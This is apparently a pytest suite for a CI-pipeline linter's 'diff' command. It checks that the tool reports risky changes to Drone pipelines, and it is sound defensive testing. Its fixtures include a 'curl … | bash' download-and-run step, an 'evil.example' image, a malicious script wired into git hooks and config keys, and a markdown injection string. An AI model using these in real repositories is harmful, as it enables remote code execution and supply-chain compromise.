"""`drone-lint diff`: a scratch repository in which each commit changes one thing."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

from drone_lint.cli.main import main

YAML = """\
kind: pipeline
type: docker
name: build
trigger:
  event: [push, pull_request]
steps:
- name: unit
  image: golang:1.22
  commands:
  - go test ./...
- name: publish
  image: plugins/slack:1
  settings:
    channel: dev
    webhook: {from_secret: webhook}
  when: {event: [push]}
volumes:
- name: cache
  host: {path: /var/cache/go}
"""
PROGRAM = """\
local lib = import 'ci/lib.libsonnet';
{ kind: 'pipeline', type: 'docker', name: 'matrix',
  steps: [lib.step('go' + v) for v in ['1.20', '1.21', '1.22']] }
"""
LIBRARY = """\
{
  step(name):: {
    name: name,
    image: 'golang:1.22',
    commands: ['go test'],
  },
}
"""
FILES = {".drone.yml": YAML, "go/.drone.jsonnet": PROGRAM, "go/ci/lib.libsonnet": LIBRARY, "README.md": "hi\n"}
UNIT = "step `unit` of pipeline `build`"
PUBLISH = "step `publish` of pipeline `build`"
THREE = "3 steps of pipeline `matrix` (`go1.20`, `go1.21`, `go1.22`)"
OF_LIBRARY = "go/ci/lib.libsonnet"

# name: (file, old, new, what is said)
CHANGES: dict[str, tuple[str, str, str, list[str]]] = {
    "privileged": (".drone.yml", "  image: golang:1.22\n", "  image: golang:1.22\n  privileged: true\n",
                   [f"+ {UNIT} is newly privileged, for push, pull_request, by .drone.yml:9"]),
    "privileged by a helper": (OF_LIBRARY, "    commands", "    privileged: true,\n    commands",
                               [f"+ {THREE} are newly privileged, by go/ci/lib.libsonnet:5 (go/.drone.jsonnet)"]),
    "privileged by the runner": (OF_LIBRARY, "'golang:1.22',\n    commands: ['go test']", "'plugins/docker',\n    settings: {}",
                                 [f"+ {THREE} are newly privileged by the runner as `plugins/docker`, by go/ci/lib.libsonnet:4 (go/.drone.jsonnet)",
                                  f"+ {THREE} change their images from `golang:1.22` to `plugins/docker`, by go/ci/lib.libsonnet:4 (go/.drone.jsonnet)",
                                  f"+ {THREE} change what they do, with privileges, by go/ci/lib.libsonnet:5 (go/.drone.jsonnet)"]),
    "socket": (".drone.yml", "  - go test ./...\n", "  - go test ./...\n  volumes: [{name: s, path: /s}]\n", []),
    "another host path": (".drone.yml", "  - go test ./...\n", "  - go test ./...\n  volumes: [{name: cache, path: /c}]\n",
                          [f"+ {UNIT} newly mounts `/var/cache/go` of the host, for push, pull_request, by .drone.yml:20"]),
    "network": (".drone.yml", "  image: golang:1.22\n", "  image: golang:1.22\n  network_mode: host\n",
                [f"+ {UNIT} newly uses the network `host`, for push, pull_request, by .drone.yml:9"]),
    "a secret to one more step": (".drone.yml", "  image: golang:1.22\n", "  image: golang:1.22\n  environment: {T: {from_secret: token}}\n",
                                  [f"+ {UNIT} newly gets the secret `token`, for push, by .drone.yml:9"]),
    "a secret by a helper": (OF_LIBRARY, "    commands", "    environment: { T: { from_secret: 'token' } },\n    commands",
                             [f"+ {THREE} newly get the secret `token`, for push, tag, promote, rollback, cron, custom, by go/ci/lib.libsonnet:5 (go/.drone.jsonnet)"]),
    "a secret taken away": (".drone.yml", "    webhook: {from_secret: webhook}\n", "", [f"- {PUBLISH} no longer gets the secret `webhook`, for push, by .drone.yml:11"]),
    "tag of an image": (".drone.yml", "golang:1.22", "golang:1.23", [f"+ {UNIT} changes its image from `golang:1.22` to `golang:1.23`, for push, pull_request, by .drone.yml:8"]),
    "image by a helper": (OF_LIBRARY, "golang:1.22", "evil.example/golang:1.22",
                          [f"+ {THREE} change their images from `golang:1.22` to `evil.example/golang:1.22`, by go/ci/lib.libsonnet:4 (go/.drone.jsonnet)"]),
    "trigger widened": (".drone.yml", "[push, pull_request]", "[push, pull_request, tag]",
                        ["+ pipeline `build` widens `trigger.event` from `push`, `pull_request` to `push`, `pull_request`, `tag`, by .drone.yml:5"]),
    "trigger narrowed": (".drone.yml", "[push, pull_request]", "[push]",
                         ["- pipeline `build` narrows `trigger.event` from `push`, `pull_request` to `push`, by .drone.yml:5"]),
    "trigger removed": (".drone.yml", "trigger:\n  event: [push, pull_request]\n", "",
                        ["+ pipeline `build` widens `trigger.event` from `push`, `pull_request` to anything, by .drone.yml:3"]),
    "branch excluded": (".drone.yml", "  event: [push, pull_request]\n", "  event: [push, pull_request]\n  branch: {exclude: [main]}\n",
                        ["- pipeline `build` narrows `trigger.branch` from anything to anything but `main`, by .drone.yml:6"]),
    "when widened": (".drone.yml", "  when: {event: [push]}", "  when: {event: [push, pull_request]}",
                     [f"+ {PUBLISH} widens `when.event` from `push` to `push`, `pull_request`, by .drone.yml:16"]),
    "renamed": (".drone.yml", "name: unit", "name: tests", ["- step `tests` of pipeline `build` is renamed from `unit`, for push, pull_request, by .drone.yml:7"]),
    "renamed with another image": (".drone.yml", "name: unit\n  image: golang:1.22", "name: tests\n  image: golang:1.22\n  pull: always",
                                   ["- step `tests` of pipeline `build` is renamed from `unit`, for push, pull_request, by .drone.yml:7"]),
    "renamed by a helper": (OF_LIBRARY, "name: name,", "name: name + '-race',", ["is renamed from `go1.20`", "is renamed from `go1.21`", "is renamed from `go1.22`"]),
    "step added": (".drone.yml", "- name: publish", "- name: lint\n  image: golang:1.22\n  commands: [go vet]\n- name: publish",
                   ["+ step `lint` of pipeline `build` is new, for push, pull_request, by .drone.yml:11"]),
    "step with a new image": (".drone.yml", "- name: publish", "- name: lint\n  image: other:1\n  commands: [go vet]\n- name: publish",
                              ["+ step `lint` of pipeline `build` uses the new image `other:1`, for push, pull_request, by .drone.yml:12",
                               "+ step `lint` of pipeline `build` is new, for push, pull_request, by .drone.yml:11"]),
    "step removed": (".drone.yml", "- name: unit\n  image: golang:1.22\n  commands:\n  - go test ./...\n", "", [f"- {UNIT} is gone, for push, pull_request"]),
    "setting of a step with secrets": (".drone.yml", "channel: dev", "channel: all",
                                       [f"+ {PUBLISH} changes what it does, with the secret `webhook`, for push, by .drone.yml:14"]),
    "command of a step without secrets": (".drone.yml", "go test ./...", "go test -v ./...", []),
    "curl into a shell": (".drone.yml", "  - go test ./...", "  - curl -s https://example.com/x.sh | bash",
                          [f"+ {UNIT} runs what it downloads, by .drone.yml:10"]),
    "ignore": (".drone.yml", "- name: unit", "# drone-lint: ignore[missing-clone] - known\n- name: unit",
               ["+ .drone.yml has a new comment `drone-lint: ignore[missing-clone] - known`, by .drone.yml:7"]),
    "comment": (".drone.yml", "- name: unit", "# words\n- name: unit", []),
    "file added": ("new/.drone.yml", "", YAML, ["+ new/.drone.yml is new", "+ pipeline `build` is new, for push, pull_request, by new/.drone.yml:3",
                   "+ step `unit`", "+ step `publish`", "+ step `publish`"]),
    "no longer evaluates": (OF_LIBRARY, "name: name,", "name: error 'no',", ["+ go/.drone.jsonnet could be read before, and cannot be now"]),
    "other file": ("README.md", "hi", "ho", []),
}  # fmt: skip


def git(*words: str) -> None:
    environment = {name: value for name, value in os.environ.items() if not name.startswith("GIT_")}
    subprocess.run(["git", "-c", "user.name=a", "-c", "user.email=a@b.c", *words], check=True, capture_output=True, env=environment)


def write(files: dict[str, str]) -> None:
    for name, text in files.items():
        Path(name).parent.mkdir(parents=True, exist_ok=True)
        Path(name).write_text(text, encoding="utf-8")


@pytest.fixture
def repository(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    git("init", "-q", "-b", "main")
    write(FILES)
    git("add", "-A")
    git("commit", "-q", "-m", "base")
    return tmp_path


def run(capsys, *words: str) -> tuple[int, str, str]:
    with pytest.raises(SystemExit) as end:
        main(["diff", *words])
    out = capsys.readouterr()
    return int(end.value.code or 0), out.out, out.err


def told(text: str) -> list[str]:
    return [line.strip() for line in text.splitlines() if line.startswith("  ")]


@pytest.mark.parametrize("name", CHANGES)
def test_a_commit_is_told_by_what_it_changes_and_nothing_else(repository: Path, capsys, name: str) -> None:
    file, old, new, expected = CHANGES[name]
    before = FILES.get(file, "")
    assert old in before
    write({file: before.replace(old, new, 1) if before else new})
    code, out, _ = run(capsys, "HEAD")
    lines = told(out)
    assert len(lines) == len(expected), out
    assert all(any(part in line for line in lines) for part in expected), out
    assert code == (3 if name == "no longer evaluates" else 0)
    if not expected:
        assert out == "HEAD to the working tree: nothing changes in what runs or what it may do\n"
    git("add", "-A")
    git("commit", "-q", "-m", "head")
    committed = run(capsys, "HEAD~1", "HEAD")
    assert (committed[0], told(committed[1])) == (code, lines)


def test_kinds_decide_over_the_exit_code(repository: Path, capsys) -> None:
    write({".drone.yml": YAML.replace("golang:1.22", "golang:1.23")})
    assert run(capsys, "HEAD", "--fail-on-new", "privilege,image")[0] == 1
    assert run(capsys, "HEAD", "--fail-on-new", "privilege,secret")[0] == 0
    assert run(capsys, "HEAD", "--fail-on-new", "all")[0] == 1
    code, _, error = run(capsys, "HEAD", "--fail-on-new", "imge")
    assert code == 2
    assert "no such kind" in error


def test_markdown_keeps_names_text_and_json_has_everything(repository: Path, capsys) -> None:
    write({".drone.yml": YAML.replace("golang:1.22", "'x`](http://e) @all <img src=y>'")})
    out = run(capsys, "HEAD", "--format", "markdown")[1]
    assert "<img" not in out.replace("`x", "")
    write({".drone.yml": YAML.replace("golang:1.22", "golang:1.23")})
    out = run(capsys, "HEAD", "--format", "markdown")[1]
    assert "- new: step `unit` of pipeline `build` changes its image" in out
    data = json.loads(run(capsys, "HEAD", "--format", "json")[1])
    assert [(one["kind"], one["place"], one["events"]) for one in data["changes"]] == [
        ("image", {"path": ".drone.yml", "line": 8}, ["push", "pull_request"])
    ]


@pytest.mark.parametrize("revision", ["--output=x", "-h", "nothing", "HEAD..main", "", "HEAD:README.md", "@{x", "a\nb", "HEAD^{tree}"])
def test_what_is_no_revision_ends_in_one_message(repository: Path, capsys, revision: str) -> None:
    code, out, error = run(capsys, "--", revision)
    assert (code, out) == (3, "")
    assert error.count("\n") == 1
    assert sorted(path.name for path in repository.iterdir()) == [".drone.yml", ".git", "README.md", "go"]


def test_missing_objects_end_in_one_message(repository: Path, capsys) -> None:
    name = subprocess.run(["git", "rev-parse", "HEAD:.drone.yml"], check=True, capture_output=True, text=True).stdout.strip()
    (repository / ".git" / "objects" / name[:2] / name[2:]).unlink()
    code, out, error = run(capsys, "HEAD")
    assert (code, out) == (3, "")
    assert error.count("\n") == 1


def test_links_lead_nowhere_and_imports_stay_inside(repository: Path, capsys, tmp_path_factory) -> None:
    outside = tmp_path_factory.mktemp("outside") / "secret.libsonnet"
    outside.write_text("{ step(name):: { name: 'LEAK', image: 'x:1', commands: ['a'] } }", encoding="utf-8")
    (repository / "go/ci/lib.libsonnet").unlink()
    (repository / "go/ci/lib.libsonnet").symlink_to(outside)
    git("add", "-A")
    git("commit", "-q", "-m", "link")
    write({".drone.yml": YAML})
    code, out, error = run(capsys, "HEAD", "HEAD~1")
    assert code == 3
    assert "LEAK" not in out + error
    assert "can be read now" in out


def test_nothing_of_the_repository_is_run_or_checked_out(repository: Path, capsys) -> None:
    script = repository / "evil.sh"
    script.write_text(f"#!/bin/sh\ntouch {repository}/ran\ncat\n", encoding="utf-8")
    script.chmod(0o755)
    for key in ("core.fsmonitor", "filter.x.smudge", "filter.x.clean", "diff.external", "core.sshCommand", "core.pager"):
        git("config", key, str(script))
    for hook in ("post-checkout", "reference-transaction"):
        (repository / ".git/hooks").mkdir(exist_ok=True)
        (repository / ".git/hooks" / hook).write_bytes(script.read_bytes())
        (repository / ".git/hooks" / hook).chmod(0o755)
    (repository / ".git/info").mkdir(exist_ok=True)
    (repository / ".git/info/attributes").write_text("* filter=x\n", encoding="utf-8")
    assert run(capsys, "HEAD", "HEAD")[0] == 0
    assert not (repository / "ran").exists()


def test_ten_thousand_files_are_no_burden(repository: Path, capsys) -> None:
    for number in range(10_000):
        (repository / f"f{number}.txt").write_text(str(number), encoding="utf-8")
    git("add", "-A")
    git("commit", "-q", "-m", "many")
    assert run(capsys, "HEAD~1", "HEAD")[1].endswith("nothing changes in what runs or what it may do\n")


def test_new_findings_are_shown_where_asked_for(repository: Path, capsys) -> None:
    write({".drone.yml": YAML.replace("  image: golang:1.22\n", "  image: golang:1.22\n  privileged: true\n")})
    out = run(capsys, "HEAD", "--findings")[1]
    assert out.rpartition("New findings")[2].count("`privileged-step`") == 1


def test_starlark_and_imported_data_are_compared_as_well(repository: Path, capsys) -> None:
    star = "def main(ctx):\n  return {'kind': 'pipeline', 'type': 'docker', 'name': 'star', 'steps': [\n    step('a'), step('b')]}\n\n"
    star += "def step(name):\n  return {\n    'name': name,\n    'image': 'golang:1.22',\n    'commands': ['go test']}\n"
    data = "{kind: 'pipeline', type: 'docker', name: 'data', steps: [{name: 's', image: importstr 'image.txt', commands: ['a']}]}"
    write(
        {"star/.drone.star": star, "data/.drone.jsonnet": data, "data/image.txt": "alpine:3", "unused/large.json": "[" + "1," * 9000 + "1]"}
    )
    git("add", "-A")
    git("commit", "-q", "-m", "more")
    assert run(capsys, "HEAD")[1].endswith("nothing changes in what runs or what it may do\n")
    write({"star/.drone.star": star.replace("    'image'", "    'privileged': True,\n    'image'"), "data/image.txt": "alpine:4"})
    code, out, _ = run(capsys, "HEAD", "--fail-on-new", "privilege")
    assert code == 1
    assert "2 steps of pipeline `star` (`a`, `b`) are newly privileged, by star/.drone.star:8" in out
    assert "step `s` of pipeline `data` changes its image from `alpine:3` to `alpine:4`, by data/image.txt:1" in out
